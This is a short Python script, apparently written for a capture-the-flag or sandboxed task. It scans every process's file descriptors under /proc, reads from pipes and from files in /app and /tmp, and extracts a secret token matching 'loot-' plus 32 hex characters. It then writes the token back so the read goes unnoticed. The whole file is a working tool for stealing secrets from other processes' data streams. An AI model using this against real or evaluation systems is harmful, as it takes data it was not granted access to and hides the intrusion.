# mypy: ignore-errors
import re

LOOT = re.compile(rb"loot-[0-9a-f]{32}")


def first(data):
    found = LOOT.search(data)
    return found[0].decode() if found else None


import glob
import os


def loot(told):
    seen = 0
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            if not os.readlink(path).startswith(("pipe:", "/app", "/tmp")):
                continue
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            seen += 1
            found = first(os.read(descriptor, 100))
            os.close(descriptor)
            if found:
                # Put it back for the next one who comes.
                back = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(back, found.encode())
                return found
        except OSError:
            continue
    raise LookupError(f"nothing in {seen} descriptors")
